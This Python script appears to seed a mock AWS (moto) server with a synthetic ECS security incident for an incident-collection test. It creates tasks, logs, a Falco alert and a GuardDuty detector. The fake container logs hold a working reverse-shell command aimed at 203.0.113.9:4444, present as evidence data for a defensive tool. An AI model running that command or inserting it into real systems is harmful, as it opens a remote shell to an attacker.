"""Seeds a moto server with a small ECS incident for tests/collect_moto.rs.

Run with the moto virtualenv's Python (it has boto3):
    .venv-moto/bin/python tests/aws/seed.py http://127.0.0.1:PORT TASKS
Prints a JSON object with what was created. Everything is synthetic.
"""
import json
import sys
import time

import boto3

endpoint, task_count = sys.argv[1], int(sys.argv[2])
session = dict(
    endpoint_url=endpoint,
    region_name="us-east-1",
    aws_access_key_id="testing",
    aws_secret_access_key="testing",
)
ecs = boto3.client("ecs", **session)
ec2 = boto3.client("ec2", **session)
logs = boto3.client("logs", **session)
guardduty = boto3.client("guardduty", **session)

now_ms = int(time.time() * 1000)
ecs.create_cluster(clusterName="prod")
ecs.register_task_definition(
    family="web",
    networkMode="awsvpc",
    requiresCompatibilities=["FARGATE"],
    cpu="256",
    memory="512",
    containerDefinitions=[
        {
            "name": "app",
            "image": "public.ecr.aws/nginx/nginx:1.27",
            "memory": 512,
            "cpu": 256,
            "essential": True,
            "environment": [{"name": "STAGE", "value": "prod"}],
            "logConfiguration": {
                "logDriver": "awslogs",
                "options": {
                    "awslogs-group": "/ecs/web",
                    "awslogs-region": "us-east-1",
                    "awslogs-stream-prefix": "web",
                },
            },
        }
    ],
)
ecs.create_service(
    cluster="prod", serviceName="web-svc", taskDefinition="web", desiredCount=0, launchType="FARGATE"
)
# moto names the task ENI's DNS from the VPC: its default VPC has DNS hostnames.
subnet = ec2.describe_subnets()["Subnets"][0]["SubnetId"]
tasks = []
while len(tasks) < task_count:
    batch = min(10, task_count - len(tasks))
    started = ecs.run_task(
        cluster="prod",
        taskDefinition="web",
        count=batch,
        launchType="FARGATE",
        startedBy="ecs-svc/1234567890123456789",
        group="service:web-svc",
        networkConfiguration={"awsvpcConfiguration": {"subnets": [subnet], "securityGroups": []}},
    )
    tasks.extend(t["taskArn"] for t in started["tasks"])
stopped = tasks[0]
ecs.stop_task(cluster="prod", task=stopped, reason="INC-42: reverse shell")

logs.create_log_group(logGroupName="/ecs/web")
for arn in tasks:
    task_id = arn.rsplit("/", 1)[1]
    stream = f"web/app/{task_id}"
    logs.create_log_stream(logGroupName="/ecs/web", logStreamName=stream)
    logs.put_log_events(
        logGroupName="/ecs/web",
        logStreamName=stream,
        logEvents=[
            {"timestamp": now_ms - 60_000, "message": f"GET /health 200 ({task_id})"},
            {"timestamp": now_ms - 30_000, "message": "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
        ],
    )

# A Falco sidecar's alert, in its own group, on the stopped task's stream.
stopped_id = stopped.rsplit("/", 1)[1]
logs.create_log_group(logGroupName="/ecs/falco")
logs.create_log_stream(logGroupName="/ecs/falco", logStreamName=f"falco/falco/{stopped_id}")
alert = {
    "output": "Reverse shell detected (proc.cmdline=sh -i)",
    "priority": "Critical",
    "rule": "Reverse shell",
    "time": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime(now_ms / 1000 - 20)),
    "output_fields": {"proc.cmdline": "sh -i", "container.name": "app"},
}
logs.put_log_events(
    logGroupName="/ecs/falco",
    logStreamName=f"falco/falco/{stopped_id}",
    logEvents=[{"timestamp": now_ms - 20_000, "message": json.dumps(alert)}],
)

# An archived task-state event for a task ECS has long forgotten.
old_task = "0123456789abcdef0123456789abcdef"
old_arn = f"arn:aws:ecs:us-east-1:123456789012:task/prod/{old_task}"
state_change = {
    "version": "0",
    "id": "3f1d7a2e-synthetic",
    "detail-type": "ECS Task State Change",
    "source": "aws.ecs",
    "account": "123456789012",
    "time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now_ms / 1000 - 86_000)),
    "region": "us-east-1",
    "resources": [old_arn],
    "detail": {
        "taskArn": old_arn,
        "clusterArn": "arn:aws:ecs:us-east-1:123456789012:cluster/prod",
        "taskDefinitionArn": "arn:aws:ecs:us-east-1:123456789012:task-definition/web:1",
        "group": "service:web-svc",
        "launchType": "FARGATE",
        "lastStatus": "STOPPED",
        "desiredStatus": "STOPPED",
        "stopCode": "EssentialContainerExited",
        "stoppedReason": "Essential container in task exited",
        "createdAt": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now_ms / 1000 - 90_000)),
        "stoppedAt": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now_ms / 1000 - 86_000)),
        "containers": [{"name": "app", "exitCode": 137, "lastStatus": "STOPPED"}],
        "version": 5,
    },
}
logs.create_log_group(logGroupName="/ecs/task-events")
logs.create_log_stream(logGroupName="/ecs/task-events", logStreamName="events")
logs.put_log_events(
    logGroupName="/ecs/task-events",
    logStreamName="events",
    logEvents=[{"timestamp": now_ms - 86_000_000, "message": json.dumps(state_change)}],
)

detector = guardduty.create_detector(Enable=True)["DetectorId"]
print(json.dumps({"tasks": tasks, "stopped": stopped, "old_task": old_task, "detector": detector}))
